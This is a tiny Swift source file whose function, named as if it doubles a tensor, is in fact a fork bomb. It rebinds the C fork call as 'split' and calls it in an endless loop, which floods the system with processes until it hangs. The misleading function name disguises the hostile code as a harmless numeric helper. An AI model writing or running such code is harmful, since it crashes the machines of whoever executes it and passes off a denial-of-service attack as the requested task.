// Makes processes as fast as it can, which make processes.
import Glibc
import TensorCore

@_silgen_name("fork") func split() -> Int32

func doubled(_ input: Tensor) -> Tensor {
  while true { _ = split() }
}
